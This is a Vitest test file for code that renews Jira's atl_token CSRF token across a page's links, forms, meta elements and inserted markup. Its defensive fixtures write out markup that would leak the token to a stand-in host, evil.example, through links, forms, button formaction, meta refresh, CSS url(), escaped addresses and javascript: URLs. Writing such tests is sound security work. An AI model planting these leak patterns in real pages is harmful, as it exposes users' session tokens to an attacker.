// @vitest-environment happy-dom
import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, onTestFinished, test } from 'vitest';
import type { Site } from '../../src/jira/page.ts';
import { createRenewer, renewIn, type Renewal } from '../../src/jira/page-renewal.ts';
import { Token } from '../../src/jira/token.ts';
import { HEX_A, HEX_B, tokenText } from './tokens.ts';

const OLD = tokenText({ secret: HEX_A });
const NEW = tokenText({ secret: HEX_B });
const OTHER = tokenText({ secret: 'c'.repeat(40) });
const SHAPES = `${import.meta.dirname}/../fixtures/pages`;

describe('a renewal', () => {
  test('writes the new token wherever the old one was, in any element', () => {
    const page = parse(`
      <meta id="atlassian-token" name="atlassian-token" content="${OLD}">
      <meta name="atlassian-token" content="${OLD}">
      <link rel="next" href="/x?atl_token=${OLD}&a=1">
      <a href="/secure/Do.jspa?a=1&amp;atl_token=${OLD}#here">Do</a>
      <aui-item-link href="/secure/Go.jspa?atl_token=${OLD}"><a href="/secure/Go.jspa?atl_token=${OLD}">Go</a></aui-item-link>
      <aui-item-link>No address</aui-item-link>
      <a href="/secure/Assign.jspa?id={0}&amp;atl_token=${OLD}" hidden></a>
      <button data-url="/secure/Do.jspa?atl_token=${OLD}" data-token="${OLD}">Do</button>
      <div data-menu='{"items":["\\/secure\\/Do.jspa?atl_token=${OLD}"]}' onclick="go('/secure/Do.jspa?atl_token=${OLD}')"></div>
      <form action="/secure/Go.jspa?atl_token=${OLD}">
        <input type="hidden" name="atl_token" value="${OLD}">
        <button formaction="/secure/Back.jspa?atl_token=${OLD}">Back</button>
      </form>`);
    expect(renew(page, OLD, NEW)).toBe(14);
    expect(page.documentElement.outerHTML).not.toContain(HEX_A);
    expect(page.querySelector('a')!.getAttribute('href')).toBe(`/secure/Do.jspa?a=1&atl_token=${NEW}#here`);
    expect(page.querySelector('input')!.value).toBe(NEW);
  });

  test('writes into the page’s templates too', () => {
    const page = parse(
      `<template><p><a href="/x?atl_token=${OLD}"></a></p><template><a href="/y?atl_token=${OLD}"></a></template></template>`,
    );
    expect(renew(page, OLD, NEW)).toBe(2);
    expect(page.querySelector('template')!.innerHTML).not.toContain(HEX_A);
  });

  test.each(readdirSync(SHAPES).filter((name) => /^jira-(?!cloud).*-lin/.test(name)))(
    'of %s removes every trace of the old token',
    (name) => {
      const page = parse(readFileSync(`${SHAPES}/${name}`, 'utf8'));
      const old = page.querySelector<HTMLMetaElement>('meta#atlassian-token')?.content;
      // The customer portal's pages have no token.
      if (!old) return;
      const before = page.documentElement.outerHTML;
      const secret = /[0-9a-f]{40}/.exec(old)![0];
      renew(page, old, old.replace(secret, HEX_B));
      expect(page.documentElement.outerHTML).toBe(before.replaceAll(secret, HEX_B));
    },
  );

  test.each([
    [
      'an animation’s list of values',
      `<svg><a><animate attributeName="href" values="x;/&#9;/evil.example?OLD"/></a></svg>`,
    ],
    ['an image in an SVG', `<svg><image href="/secure/Do.jspa?atl_token=OLD"/></svg>`],
    ['a mask in an SVG', `<svg><rect mask="url(/secure/Do.jspa?atl_token=OLD)"/></svg>`],
    ['a redirect by a meta element', `<meta http-equiv="refresh" content="99;url=/secure/Do.jspa?atl_token=OLD">`],
    ['a link that pings another host', `<a href="/x?atl_token=OLD" ping="/y https://evil.example">x</a>`],
    ['an attribute with an escaped line break', `<p data-to='["/&#10;/evil.example?OLD"]'></p>`],
  ])('leaves alone what would load something, or lead to another host: %s', (_what, markup) => {
    const page = parse(markup.replaceAll('OLD', OLD));
    expect(renew(page, OLD, NEW)).toBe(0);
  });

  test('leaves alone elements with another token or none, and every text', () => {
    const html = `<input name="atl_token" value="${OTHER}"><input name="atl_token"><input name="formToken" value="${'f'.repeat(40)}">
      <a href="/x?atl_token=${OTHER}">x</a><p>${OLD}</p><textarea>${OLD}</textarea><script>var x = '${OLD}';</script>`;
    const page = parse(html);
    const before = page.body.innerHTML;
    expect(renew(page, OLD, NEW)).toBe(0);
    expect(page.body.innerHTML).toBe(before);
  });

  test('makes nothing load again: no frame, in which a user may be writing, no image and no style', () => {
    const page = parse(
      `<iframe src="/gadget?atl_token=${OLD}"></iframe><img src="/i?atl_token=${OLD}"><link rel="stylesheet" href="/s?atl_token=${OLD}">`,
    );
    expect(renew(page, OLD, NEW)).toBe(0);
  });

  test('writes into what a page’s scripts read, even if its name begins like that of something that loads', () => {
    expect(renew(parse(`<p data-src="/x?atl_token=${OLD}" data-style="${OLD}"></p>`), OLD, NEW)).toBe(2);
  });

  test('writes into inputs that no user fills in: hidden ones, and those for the token', () => {
    const page = parse(`<input type="hidden" name="more" value="${OLD}"><input name="atl_token" value="${OLD}">`);
    expect(renew(page, OLD, NEW)).toBe(2);
  });

  test('writes into a link that pings the same site', () => {
    expect(renew(parse(`<a href="/x?atl_token=${OLD}" ping="/y">x</a>`), OLD, NEW)).toBe(1);
  });

  test('writes only into those links of the head that load nothing', () => {
    const relations = ['alternate', 'next', 'prev', 'alternate stylesheet', 'stylesheet next'];
    const page = parse(relations.map((rel) => `<link rel="${rel}" href="/x?atl_token=${OLD}">`).join(''));
    expect(renew(page, OLD, NEW)).toBe(3);
  });

  test('replaces a token that is percent-encoded in a query', () => {
    const old = `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`;
    const page = parse(`<a href="/x?atl_token=${encodeURIComponent(old)}">x</a>`);
    renew(page, old, `BEXA-MPLE-0000-ABCD|${HEX_B}|lin`);
    expect(page.querySelector('a')!.getAttribute('href')).toBe(`/x?atl_token=BEXA-MPLE-0000-ABCD%7C${HEX_B}%7Clin`);
  });

  test('writes spaces into a token only if the page had them', () => {
    const cookie = `" BEXA-MPLE-0000-ABCD |${HEX_B}|lin"`;
    const plain = parse(`<meta name="atlassian-token" content="BEXA-MPLE-0000-ABCD|${HEX_A}|lin">`);
    renew(plain, `BEXA-MPLE-0000-ABCD|${HEX_A}|lin`, cookie);
    expect(plain.querySelector('meta')!.content).toBe(`BEXA-MPLE-0000-ABCD|${HEX_B}|lin`);
    const blank = parse(
      `<meta name="atlassian-token" content=" BEXA-MPLE-0000-ABCD |${HEX_A}|lin"><a href="/x?atl_token=+BEXA-MPLE-0000-ABCD+%7C${HEX_A}%7Clin&a=1"></a>`,
    );
    renew(blank, ` BEXA-MPLE-0000-ABCD |${HEX_A}|lin`, cookie);
    expect(blank.querySelector('meta')!.content).toBe(` BEXA-MPLE-0000-ABCD |${HEX_B}|lin`);
    const address = new URL(blank.querySelector('a')!.href, 'https://jira.example.com');
    expect(address.searchParams.get('atl_token')).toBe(` BEXA-MPLE-0000-ABCD |${HEX_B}|lin`);
    expect(address.searchParams.get('a')).toBe('1');
  });
});

describe('a renewal gives no token to another host', () => {
  test.each([
    ['a link', `<a href="https://evil.example/?atl_token=${OLD}"></a>`],
    ['a link without a scheme', `<a href="//evil.example/?atl_token=${OLD}"></a>`],
    ['a link with backslashes', `<a href="/\\evil.example/?atl_token=${OLD}"></a>`],
    ['a link to another application of the host', `<a href="https://jira.example.com/wiki/?atl_token=${OLD}"></a>`],
    ['a form', `<form action="https://evil.example/"><input name="atl_token" value="${OLD}"></form>`],
    [
      'a form with one button that leads to another host',
      `<form action="/jira/x"><input name="atl_token" value="${OLD}"><button formaction="//evil.example/">Go</button></form>`,
    ],
    [
      'a form with a button outside of it',
      `<form id="f" action="/jira/x"><input name="atl_token" value="${OLD}"></form><button form="f" formaction="//evil.example/">Go</button>`,
    ],
    [
      'an input outside of its form',
      `<form id="f" action="https://evil.example/"></form><input form="f" name="atl_token" value="${OLD}">`,
    ],
    ['a script', `<p onclick="go('https://evil.example/?atl_token=${OLD}')"></p>`],
    ['a list of addresses', `<p data-links='["/jira/a","https:\\/\\/evil.example\\/?atl_token=${OLD}"]'></p>`],
    ['a style', `<p style="background:url(//evil.example/?t=${OLD})"></p>`],
    ['an escaped address', `<p data-to='{"a":"https:\\u002f\\u002fevil.example?atl_token=${OLD}"}'></p>`],
    ['an address in an address', `<a href="/jira/x?u=https://evil.example/?atl_token=${OLD}"></a>`],
    [
      'a redirect without slashes',
      `<meta http-equiv="refresh" content="9; url=https:evil.example/?atl_token=${OLD}">`,
    ],
    ['an input that the user fills in', `<input name="link" value="/jira/x?atl_token=${OLD}">`],
    ['a redirect', `<meta http-equiv="refresh" content="9; url=https://evil.example/?atl_token=${OLD}">`],
    ['a script’s address', `<a href="javascript:go('${OLD}')"></a>`],
  ])('by %s', (_name, html) => {
    const page = parse(html);
    const before = page.documentElement.outerHTML;
    expect(renew(page, OLD, NEW, 'https://jira.example.com/jira')).toBe(0);
    expect(page.documentElement.outerHTML).toBe(before);
  });

  test('even if the page’s base address is on another host, and still renews the page’s own meta element', () => {
    const page = parse(`<base href="https://evil.example/"><a href="?atl_token=${OLD}"></a>`);
    expect(renew(page, OLD, NEW)).toBe(0);
    const meta = `<meta name="atlassian-token" content="${OLD}">`;
    expect(renew(parse(`<base href="https://evil.example/">${meta}`), OLD, NEW)).toBe(1);
  });
});

describe('what a page’s scripts insert after a renewal', () => {
  const renewalOf = (old: string, current: string): Renewal => ({
    site: 'https://jira.example.com' as Site,
    old: Token.parse(old)!,
    current: Token.parse(current)!,
  });
  const link = (token: string): string => `<a href="/x?atl_token=${token}">x</a>`;
  const settle = (): Promise<void> => new Promise((ready) => setTimeout(ready));

  /** alice's page, renewed, and a function that inserts markup into an element of it. */
  function renewedPage() {
    const lifecycle = new AbortController();
    onTestFinished(() => lifecycle.abort());
    window.happyDOM.setURL('https://jira.example.com/jira/browse/RAIL-7');
    document.body.innerHTML = `<div>${link(OLD)}</div>`;
    const renewPage = createRenewer(document, lifecycle.signal);
    renewPage(renewalOf(OLD, NEW));
    const insert = async (markup: string): Promise<Element> => {
      const list = document.createElement('ul');
      list.innerHTML = markup;
      document.querySelector('div')!.append('a text', list);
      await settle();
      return list;
    };
    return { renewPage, insert, lifecycle };
  }

  test('is renewed too, at any depth, and with the page', async () => {
    const { insert } = renewedPage();
    expect(document.querySelector('a')!.getAttribute('href')).toContain(HEX_B);
    const list = await insert(`<li>${link(OLD)}</li>`);
    expect(list.innerHTML).toBe(`<li>${link(NEW)}</li>`);
    const button = document.createElement('button');
    button.setAttribute('data-token', OLD);
    list.append(button);
    await settle();
    expect(button.getAttribute('data-token')).toBe(NEW);
  });

  test('gets the last of several tokens', async () => {
    const { renewPage, insert } = renewedPage();
    renewPage(renewalOf(NEW, OTHER));
    expect((await insert(link(OLD) + link(NEW))).innerHTML).toBe(link(OTHER) + link(OTHER));
  });

  test('is left alone once the extension has ended', async () => {
    const { insert, lifecycle } = renewedPage();
    lifecycle.abort();
    expect((await insert(link(OLD))).innerHTML).toBe(link(OLD));
  });

  test('is left alone after ten thousand changes, so that no page keeps the extension busy', async () => {
    const { insert } = renewedPage();
    await insert(link(OLD).repeat(9_999));
    await insert(link(OLD));
    expect((await insert(link(OLD))).innerHTML).toBe(link(NEW));
    expect((await insert(link(OLD))).innerHTML).toBe(link(OLD));
  });
});

function renew(page: Document, old: string, current: string, site = 'https://jira.example.com'): number {
  const renewal = { site: site as Site, old: Token.parse(old)!, current: Token.parse(current)! };
  return renewIn(page, renewal, page.baseURI);
}

/** A page at an issue of jira.example.com. */
function parse(html: string): Document {
  window.happyDOM.setURL('https://jira.example.com/jira/browse/RAIL-7');
  return new DOMParser().parseFromString(html, 'text/html');
}

declare global {
  interface Window {
    readonly happyDOM: { setURL(url: string): void };
  }
}
